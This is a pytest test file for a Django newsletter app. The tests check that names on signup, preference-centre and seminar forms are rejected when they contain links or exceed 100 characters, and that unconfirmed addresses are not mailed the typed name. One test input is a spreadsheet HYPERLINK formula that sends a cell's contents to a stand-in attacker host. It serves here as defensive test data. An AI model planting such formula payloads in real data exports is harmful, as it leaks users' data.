"""Names on the public forms: something a name could be (no links, a sensible length), and
never mailed back to an address nobody has confirmed."""

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone, translation

from newsletter import subscriptions, tokens
from newsletter.models import Registration, Subscriber
from tests.factories import MailingListFactory, SeminarFactory, SubscriberFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("immediate_tasks")]

LINKS = [
    '=HYPERLINK("https://evil.example/?d="&A3,"Klicka")',
    "Win a prize at http://evil.example",
    "Visit www.evil",
    "Alice, see evil.example now",
    "Boss at EVIL.EXAMPLE",
    "Alice (alice@evil.example)",
    "Åsa@hemma",
    "Anna på exämple.se",
]
NAMES = ["Alice Andersson", "Anna-Lena O'Brien", "J. R. R. Tolkien", "Smith Jr.",
         "Åsa Öberg", "می\u200cخواهم", "李小龙", "Dr. Åke Ek", "x" * 100]
ERROR_SV = "Skriv bara ditt namn"
ERROR_EN = "Please write just your name"


def url(name, language="sv", **kwargs):
    with translation.override(language):
        return reverse(f"newsletter:{name}", kwargs=kwargs or None)


@pytest.fixture
def newsletter():
    return MailingListFactory(slug="nyhetsbrev")


def sign_up(client, name, language="sv"):
    return client.post(url("signup", language), {"email": "bob@example.org", "name": name,
                                                 "lists": ["nyhetsbrev"]})


# --- Not mailed before the address is confirmed -------------------------------------------

def test_the_confirmation_mail_does_not_repeat_the_name_typed_with_the_address(
        client, newsletter):
    response = sign_up(client, "Mallory Mallorysson")
    assert response.status_code == 302
    (message,) = mail.outbox
    assert "Mallory" not in message.body and "Mallory" not in message.alternatives[0][0]
    assert "Mallory" not in message.subject
    assert message.body.startswith("Hej!")
    # Kept for when the owner confirms (the preference centre shows it).
    assert Subscriber.objects.get().name == "Mallory Mallorysson"


def test_once_the_address_is_confirmed_its_mails_greet_by_name(client, newsletter):
    alice = SubscriberFactory(email="alice@example.org", name="Alice",
                              confirmed_at=timezone.now())
    subscriptions.subscribe(alice.email, lists=[newsletter], language="sv", source="test",
                            consent_text="ok")
    subscriptions.send_confirmation(alice)
    assert mail.outbox[-1].body.startswith("Hej Alice!")


def test_the_manage_link_mail_greets_only_a_confirmed_name(client, newsletter):
    SubscriberFactory(email="carol@example.org", name="Carol Stranger")
    SubscriberFactory(email="dave@example.org", name="Dave", confirmed_at=timezone.now())
    for address in ("carol@example.org", "dave@example.org"):
        assert client.post(url("manage-request"), {"email": address}).status_code == 302
    carol, dave = mail.outbox
    assert "Carol" not in carol.body and carol.body.startswith("Hej!")
    assert dave.body.startswith("Hej Dave!")


# --- What a name may be -----------------------------------------------------------------

@pytest.mark.parametrize("name", LINKS)
def test_a_signup_with_a_link_for_a_name_is_refused_in_the_visitors_language(
        client, newsletter, name):
    swedish = sign_up(client, name)
    english = sign_up(client, name, "en")
    assert swedish.status_code == english.status_code == 400
    assert ERROR_SV in swedish.content.decode()
    assert ERROR_EN in english.content.decode()
    assert not Subscriber.objects.exists() and mail.outbox == []


@pytest.mark.parametrize("name", NAMES)
def test_real_names_are_welcome(client, newsletter, name):
    assert sign_up(client, name).status_code == 302
    assert Subscriber.objects.get().name == name


def test_a_name_longer_than_a_name_is_refused(client, newsletter):
    response = sign_up(client, "x" * 101)
    assert response.status_code == 400
    assert "som mest 100 tecken" in response.content.decode()
    assert not Subscriber.objects.exists()


def test_the_preference_centre_refuses_a_link_for_a_name(client, newsletter):
    alice = SubscriberFactory(email="alice@example.org", name="Alice",
                              confirmed_at=timezone.now())
    page = url("manage", "en", token=tokens.make("manage", alice.pk))
    response = client.post(page, {"lists": ["nyhetsbrev"], "language": "en",
                                  "name": "Alice www.evil.example"})
    assert response.status_code == 400
    assert ERROR_EN in response.content.decode()
    alice.refresh_from_db()
    assert alice.name == "Alice"


@pytest.mark.parametrize("name", ["Bob https://evil.example", "b" * 101, "bob@evil"])
def test_a_seminar_registration_with_a_link_or_a_long_name_is_refused(client, name):
    seminar = SeminarFactory()
    response = client.post(url("seminar-register", slug=seminar.slug), {
        "name": name, "email": "bob@example.org", "consent": "on"})
    assert response.status_code == 400
    assert ERROR_SV in response.content.decode() or "som mest 100 tecken" in (
        response.content.decode())
    assert not Registration.objects.exists() and mail.outbox == []
